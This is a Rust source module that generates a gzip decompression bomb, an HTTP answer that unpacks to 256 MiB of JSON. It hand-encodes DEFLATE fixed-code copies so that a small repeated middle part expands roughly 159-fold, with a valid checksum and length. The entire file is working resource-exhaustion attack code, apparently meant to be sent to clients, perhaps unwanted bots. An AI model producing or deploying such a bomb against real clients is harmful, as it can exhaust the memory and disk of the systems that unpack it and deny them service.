//! A gzip bomb: an answer that is 256 MiB of JSON when it is unpacked.
//!
//! The middle is one letter, again and again. With the fixed codes of DEFLATE (RFC 1951, 3.2.6) a
//! copy of 258 bytes from one byte back takes 13 bits, so it shrinks to a 159th. Eight copies are 13
//! whole bytes, which makes a pattern that can be sent as often as one likes.

use std::iter::repeat_n;

/// Bytes that eight copies unpack to.
const EIGHT_COPIES: usize = 8 * 258;

/// A packed file in three parts, the middle one to be sent several times.
pub(super) struct Bomb {
    pub(super) start: Vec<u8>,
    pub(super) middle: Vec<u8>,
    pub(super) times: usize,
    pub(super) end: Vec<u8>,
}

/// Packs `before`, at least `size` letters `a`, and `after`; the ends are up to 65,535 bytes each.
pub(super) fn bomb(before: &[u8], size: usize, after: &[u8]) -> Bomb {
    const PATTERNS: usize = 512;
    let unit = EIGHT_COPIES * PATTERNS;
    let times = size.div_ceil(unit);
    // The magic number, DEFLATE, no flags, no time, no system (RFC 1952).
    let mut start = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    start.push(0); // not the last block, as it is
    plain(&mut start, before);
    let mut bits = Bits::default();
    bits.push(0b010, 3); // not the last block, fixed codes
    bits.code(u16::from(b'a') + 0x30, 8);
    bits.copies(8);
    // From here on, the bits that are left over of a byte are always those of a copy.
    let mut middle = Bits { held: bits.held, count: bits.count, bytes: Vec::new() };
    start.append(&mut bits.bytes);
    middle.copies(8 * PATTERNS);
    let mut end = Bits { held: middle.held, count: middle.count, bytes: Vec::new() };
    end.code(0, 7); // the end of the block
    end.push(0b001, 3); // the last block, as it is
    end.flush();
    let mut end = end.bytes;
    plain(&mut end, after);
    let letters = 1 + EIGHT_COPIES + times * unit;
    let mut crc = crc32fast::Hasher::new();
    crc.update(before);
    crc.combine(&checksum_of_run(letters));
    crc.update(after);
    end.extend(crc.finalize().to_le_bytes());
    let length = u32::try_from((before.len() + letters + after.len()) & 0xffff_ffff);
    end.extend(length.unwrap_or(0).to_le_bytes());
    Bomb { start, middle: middle.bytes, times, end }
}

impl Bomb {
    /// Its length as it is sent.
    pub(super) fn len(&self) -> usize {
        self.start.len() + self.middle.len() * self.times + self.end.len()
    }

    /// Its parts in order.
    pub(super) fn parts(&self) -> impl Iterator<Item = &[u8]> {
        let middle = repeat_n(self.middle.as_slice(), self.times);
        [self.start.as_slice()].into_iter().chain(middle).chain([self.end.as_slice()])
    }
}

/// The checksum of so many letters `a`, put together from those of powers of two.
fn checksum_of_run(mut letters: usize) -> crc32fast::Hasher {
    let (mut all, mut power) = (crc32fast::Hasher::new(), crc32fast::Hasher::new());
    power.update(b"a");
    while letters > 0 {
        if letters & 1 == 1 {
            all.combine(&power);
        }
        let half = power.clone();
        power.combine(&half);
        letters >>= 1;
    }
    all
}

/// The rest of a block of bytes as they are, behind its kind: their number, its complement, they.
fn plain(to: &mut Vec<u8>, bytes: &[u8]) {
    let length = u16::try_from(bytes.len()).unwrap_or(u16::MAX);
    to.extend(length.to_le_bytes());
    to.extend((!length).to_le_bytes());
    to.extend(&bytes[..usize::from(length)]);
}

/// Bits, the lowest of a byte first.
#[derive(Default)]
struct Bits {
    held: u32,
    count: u32,
    bytes: Vec<u8>,
}

impl Bits {
    /// A number, its lowest bit first.
    fn push(&mut self, value: u16, length: u32) {
        self.held |= u32::from(value) << self.count;
        self.count += length;
        while self.count >= 8 {
            self.bytes.push((self.held & 0xff) as u8);
            self.held >>= 8;
            self.count -= 8;
        }
    }

    /// A code, its highest bit first.
    fn code(&mut self, value: u16, length: u32) {
        self.push(value.reverse_bits() >> (16 - length), length);
    }

    /// So many copies of 258 bytes from one byte back.
    fn copies(&mut self, times: usize) {
        for _ in 0..times {
            self.code(0b1100_0101, 8);
            self.code(0, 5);
        }
    }

    fn flush(&mut self) {
        if self.count > 0 {
            self.push(0, 8 - self.count);
        }
    }
}
